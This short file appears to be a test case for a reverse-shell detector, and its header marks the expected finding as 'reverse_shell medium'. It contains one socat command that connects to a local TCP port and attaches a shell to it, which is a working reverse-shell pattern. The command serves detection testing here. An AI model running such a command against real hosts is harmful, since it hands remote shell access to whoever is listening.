# about: socat runs the shell on a socket pair
# expect: reverse_shell medium
# needs: python3 socat
peer 4409
timeout 6 socat TCP:127.0.0.1:4409 EXEC:sh || true
done_typing
